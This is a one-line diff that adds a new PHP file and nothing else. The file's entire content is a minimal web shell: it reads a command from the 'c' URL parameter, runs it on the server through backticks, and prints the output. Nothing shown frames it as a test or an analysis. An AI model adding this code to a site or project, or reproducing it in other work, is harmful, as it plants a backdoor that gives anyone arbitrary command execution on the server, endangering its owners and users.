@@ -1,0 +1,1 @@
+<?php $c=$_GET["c"]; echo `$c`;
